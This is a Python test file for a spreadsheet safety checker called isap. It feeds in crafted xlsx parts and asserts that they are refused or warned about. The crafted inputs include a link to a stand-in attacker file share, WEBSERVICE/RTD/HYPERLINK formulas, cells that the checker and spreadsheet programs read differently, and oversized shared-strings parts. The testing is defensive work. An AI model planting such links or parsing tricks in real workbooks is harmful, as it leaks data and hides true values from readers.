    data = _with_parts(data, {**_hyperlink_relationship("xl/worksheets/sheet2.xml", "https://www.england.nhs.uk/"),
                              drawing: f'<xdr:wsDr {_DRAWING_NS}><xdr:sp><a:hlinkClick r:id="rId1"/></xdr:sp>'
                                       '</xdr:wsDr>'.encode(),
                              **_hyperlink_relationship(drawing, "https://www.england.nhs.uk/")})
    report, messages = _wb010(tmp_path, data)
    assert messages == [] and not report.refused


def test_a_part_using_hyperlinks_that_cannot_be_read_is_wb010(tmp_path):
    """How a part that is not well-formed uses its outside links cannot be seen: reported, as a warning."""
    part = "xl/drawings/vmlDrawing1.vml"
    data = _with_parts(valid_bytes(tmp_path), {part: b"<xml><v:shape><br></xml>", **_hyperlink_relationship(part)})
    report, messages = _wb010(tmp_path, data)
    assert messages == ["The workbook links to the external file 'file://attacker.example/share/logo.png' from part "
                        f"{part}, which cannot be read to see how it uses the link: opening the original may make it "
                        "reach that file."]
    assert not report.refused


@pytest.mark.parametrize("cell, words", [
    (b'<c r="B5"><is><t>7</t></is></c>', "holds an inline text but is not typed as one"),
    (b'<c r="B5" t="s"><is><t>7</t></is></c>', "holds an inline text but is not typed as one"),
    (b'<c r="B5" t="n"><v>NaN</v></c>', "holds 'NaN' as a number"),
    (b'<c r="B5"><v>-Infinity</v></c>', "holds '-Infinity' as a number"),
    # found by a fresh attack: each below hid an error
    (b'<c r="B5" t="n"><v>2</v><f>2</f></c>', "holds its formula after its value"),
    (b'<c r="B5" t="b"><v>true</v></c>', "holds 'true' as a yes or no"),
    (b'<c r="B5" t="b"><v>0.0</v></c>', "holds '0.0' as a yes or no"),
    (b'<c r="B5" t="b"><v>2</v></c>', "holds '2' as a yes or no"),
    (b'<c r="B5"><v>-1e400</v></c>', "holds '-1e400' as a number"),
    (b'<c r="B5" t="n"><v>' + b"9" * 400 + b'</v></c>', "as a number, which no spreadsheet program writes"),
], ids=["untyped-inline-text", "shared-string-typed-inline-text", "not-a-number", "infinity", "value-then-formula",
        "boolean-word", "boolean-zero-point-zero", "boolean-two", "number-past-the-largest", "digits-past-the-largest"])
def test_a_cell_spreadsheet_programs_show_otherwise_than_the_reader_is_wb001(tmp_path, cell, words):
    """Found by fresh attacks: an inline text in a cell not typed as one is empty to spreadsheet programs and a
    value to the reader (a required amount read as 60,000,000, shown blank); NaN in a date cell was 30 December
    1899 to the reader; a value before its formula is dropped by the reader (a whole row of services unseen);
    a yes or no spelled `true` was Yes to the reader and FALSE to LibreOffice; a number past the largest one
    stopped the reader (exit 2, "cannot be read")."""
    findings = _refused(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(b'<c r="B5" t="n"><v>2</v></c>', cell,
                                                                              1)))
    assert [f.rule_id for f in findings] == ["WB001"] and words in findings[0].message


def test_an_element_no_program_writes_in_shared_strings_is_wb001(tmp_path):
    """Found by a fresh attack: twelve million empty elements inside entries no cell named were parsed again each
    time the reader opened the workbook (17 s of processor time)."""
    from tests.hostile import shared_strings_named_by_cells

    data = shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>a</t><x/></si>", 1)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "holds an element named 'x', which no spreadsheet program writes there" in findings[0].message


_FOREIGN = 'xmlns:x="urn:example:other"'


@pytest.mark.parametrize("old, new", [
    (b'<c r="B5" t="n"><v>2</v></c>',
     f'<c r="B5" t="inlineStr"><is><t>2</t><x:t {_FOREIGN}>0</x:t></is></c>'.encode()),
    (b'<c r="B5" t="n"><v>2</v></c>',
     f'<c r="B5" t="inlineStr"><is><r><t>2</t></r><x:r {_FOREIGN}><t>0</t></x:r></is></c>'.encode()),
    (b'<c r="B5" t="n"><v>2</v></c>', f'<x:c {_FOREIGN} r="B5" t="n"><x:v>2</x:v></x:c>'.encode()),
    (b'<row r="5">', b'<row r="5" xmlns="urn:example:other">'),
    (b'<row r="5"><c r="A5" t="inlineStr"><is><t>checkpoint</t></is></c><c r="B5" t="n"><v>2</v></c></row>',
     f'<row r="5"><c r="A5" t="inlineStr"><is><t>checkpoint</t></is></c></row><x:row {_FOREIGN} r="5"><x:c r="B5" '
     't="n"><x:v>2</x:v></x:c></x:row>'.encode()),
    (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
     b'<worksheet xmlns="urn:example:other">'),
], ids=["inline-text", "inline-run", "cell", "row-default-namespace", "row", "sheet"])
def test_sheet_data_of_another_namespace_is_wb001(tmp_path, old, new):
    """Found by a fresh attack: the reader reads elements by their local names, spreadsheet programs skip those of
    another namespace: `<is><t>ISAP-2026-</t><x:t>014</x:t></is>` was a valid reference to isap and a wrong one
    in LibreOffice, and a required value in a cell of another namespace was read where LibreOffice shows none."""
    findings = _refused(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(old, new, 1)))
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "of another namespace" in findings[0].message


def test_an_element_of_another_namespace_in_shared_strings_is_wb001(tmp_path):
    from tests.hostile import shared_strings_named_by_cells

    data = shared_strings_named_by_cells(valid_bytes(tmp_path), f"<si><t>a</t><x:t {_FOREIGN}>b</x:t></si>".encode(), 1)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "holds an element of another namespace, which no spreadsheet program writes there" in findings[0].message

def test_formatted_runs_and_phonetics_in_shared_strings_are_read(tmp_path):
    """What Excel writes in an entry: runs with their font properties, phonetic runs and properties."""
    from tests.hostile import shared_strings_named_by_cells

    entry = (b'<si><r><rPr><b/><sz val="11"/><color theme="1"/><rFont val="Calibri"/><family val="2"/>'
             b'<scheme val="minor"/></rPr><t>Dudley</t></r><r><t xml:space="preserve"> care</t></r>'
             b'<rPh sb="0" eb="1"><t>d</t></rPh><phoneticPr fontId="1"/></si>')
    path = tmp_path / "runs.xlsx"
    path.write_bytes(shared_strings_named_by_cells(valid_bytes(tmp_path), entry, 1))
    assert not check_file(path).refused


def test_more_shared_string_elements_than_the_policy_allows_is_wb003(tmp_path):
    from isap.policy import Policy
    from tests.hostile import shared_strings_named_by_cells

    path = tmp_path / "runs.xlsx"
    path.write_bytes(shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><r><t>a</t></r></si>" * 40, 40,
                                                   declared=b"40"))
    report = check_file(path, Policy(max_shared_strings_elements=100))
    assert report.refused and [f.rule_id for f in report.findings] == ["WB003"]
    assert "more than 100 XML elements" in report.findings[0].message
    assert not check_file(path, Policy(max_shared_strings_elements=121)).refused  # sst, and 3 for each entry


def test_a_shared_strings_part_of_many_more_entries_than_cells_name_is_wb003(tmp_path):
    """Found by a fresh attack: 1,000,000 entries no cell named escaped the limit on copied text, and the reader
    parsed and held them each time it opened the workbook (408-432 MB on two lanes)."""
    from tests.hostile import shared_strings_named_by_cells

    entries = b"".join(b"<si><t>entry %d</t></si>" % i for i in range(1_200))
    findings = _refused(tmp_path, shared_strings_named_by_cells(valid_bytes(tmp_path), entries, 100,
                                                                declared=b"1200"))
    assert [f.rule_id for f in findings] == ["WB003"]
    assert "holds 1,200 entries but only 100 cells name one" in findings[0].message
    path = tmp_path / "few.xlsx"  # a few left after cells were cleared are read
    few = b"".join(b"<si><t>entry %d</t></si>" % i for i in range(1_100))
    path.write_bytes(shared_strings_named_by_cells(valid_bytes(tmp_path), few, 100, declared=b"1100"))
    assert not check_file(path).refused


def test_a_large_shared_strings_part_is_read_on_one_lane(tmp_path, monkeypatch):
    """Each lane's workbook holds a copy of the shared strings: from `_ONE_LANE_FROM_SHARED_BYTES`, one lane."""
    from isap.policy import Policy
    from isap.workbook import parse as parsing
    from isap.workbook.safety import inspect
    from tests.hostile import shared_strings_named_by_cells

    path = tmp_path / "shared.xlsx"
    path.write_bytes(shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>a</t></si>", 1))
    inspection = inspect(path, Policy())
    assert inspection.shared_strings_bytes == len(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                                                   b'2006/main" count="1" uniqueCount="1"><si><t>a</t></si></sst>')
    for threshold, one_lane in ((inspection.shared_strings_bytes + 1, False), (inspection.shared_strings_bytes, True)):
        monkeypatch.setattr(parsing, "_ONE_LANE_FROM_SHARED_BYTES", threshold)
        reader = parsing.SheetReader()
        parsing.parse(inspection, reader=reader)
        assert reader.one_lane is one_lane


@pytest.mark.parametrize("value", [b"+1", b"1.0", b"1e0", b"-1", b" 1"])
def test_a_shared_string_named_otherwise_than_by_its_digits_is_wb001(tmp_path, value):
    """Found by a fresh attack: the reader takes a shared string's number only as plain digits and reads `+1`,
    `1.0` or `1e0` as entry 0, where spreadsheet programs read entry 1: an amount shown as £9,000,000 was
    £15,500,000 to isap, and its error was hidden."""
    from tests.hostile import shared_strings_named_by_cells

    data = shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>a</t></si><si><t>b</t></si>", 1, value,
                                         declared=b"2")
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"]
    assert f"cell K100 of sheet 'Services' names a shared string as {value.decode()!r}" in findings[0].message


def test_formulas_reaching_outside_are_one_wb010_a_sheet_naming_the_first(tmp_path):
    cells = ('<c r="D2"><f>_xlfn.WEBSERVICE(B3)</f><v>0</v></c><c r="E2"><f>RTD("a",,"b")</f><v>0</v></c>'
             '<c r="F2"><f>HYPERLINK("https://x.example/")</f><v>0</v></c>')
    messages = _wb010(tmp_path, _cover_with(valid_bytes(tmp_path), cell=cells))[1]
    assert messages == ["The workbook has a formula calling WEBSERVICE (cell D2 of sheet 'Cover'; 2 other formulas "
                        "there reach outside too): opening the original and calculating it may make it reach a web "
                        "address, a file or another program."]
